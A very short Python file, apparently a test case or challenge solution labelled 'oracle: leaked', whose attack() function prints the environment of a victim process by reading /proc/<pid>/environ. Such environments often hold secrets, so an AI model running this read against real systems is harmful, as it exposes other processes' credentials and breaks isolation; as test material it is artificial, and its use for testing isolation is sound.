# oracle: leaked
from host import VICTIM


def attack():
    print(open(f"/proc/{VICTIM}/environ").read())
